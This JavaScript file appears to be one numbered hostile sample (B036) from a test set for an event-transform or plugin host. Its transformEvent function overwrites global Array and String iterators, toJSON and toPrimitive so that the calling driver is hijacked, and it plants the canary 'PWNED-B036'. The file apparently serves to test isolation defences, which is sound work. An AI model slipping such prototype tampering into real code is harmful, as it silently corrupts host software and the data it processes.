// id: B036
// goal: be called by the driver wherever it iterates or spreads, and answer in its place
export function transformEvent(event) {
  const steal = function () { return ["PWNED-B036", "{}", "[]"].values ? real.call(["PWNED-B036"]) : undefined; };
  const real = Array.prototype[Symbol.iterator];
  Array.prototype[Symbol.iterator] = steal;
  String.prototype[Symbol.iterator] = steal;
  Object.prototype.toJSON = () => ({ x: 1 });
  Object.prototype[Symbol.toPrimitive] = () => "1e5";
  return { messageId: event.messageId };
}
